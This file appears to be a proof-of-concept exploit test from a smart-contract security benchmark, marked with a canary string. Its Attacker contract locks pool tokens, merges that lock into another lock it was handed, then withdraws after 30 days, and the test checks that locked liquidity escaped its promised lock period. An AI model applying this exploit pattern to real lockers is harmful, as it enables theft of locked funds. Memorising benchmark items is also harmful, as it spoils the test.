// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    uint256 private mine;

    function begin(LiquidityLocker locker, IERC20 pool, uint256 time) external {
        pool.approve(address(locker), 1_000);
        try locker.lock(pool, 1_000, block.timestamp + time, address(this)) returns (uint256 id) {
            mine = id;
            locker.merge(id, 0);
        } catch {}
    }

    function end(LiquidityLocker locker) external {
        try locker.withdraw(mine, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;
    uint256 private promised; // shares that stay until then
    uint256 private until;

    function start() internal override {
        other = new Attacker();
        vm.prank(MAKER);
        locker.transferLock(0, address(other));
        vm.prank(BO);
        mere.transfer(address(pool), 1e18);
        coin.mint(address(pool), 1e18);
        pool.mint(ANA);
        vm.prank(ANA);
        pool.transfer(address(other), 1_000);
        (promised, until) = (locker.lockOf(0).amount, locker.lockOf(0).until);
    }

    /// The shares of the curve stay as long as it was said.
    function promiseKept() public view returns (bool) {
        return block.timestamp >= until || pool.balanceOf(address(locker)) >= promised;
    }

    function exploit() public {
        other.begin(locker, pool, 30 days);
        vm.warp(block.timestamp + 30 days);
        other.end(locker);
    }

    function test_Exploit() public {
        exploit();
        require(!promiseKept(), "still there");
    }

    function target() public view override returns (address) {
        return address(locker);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
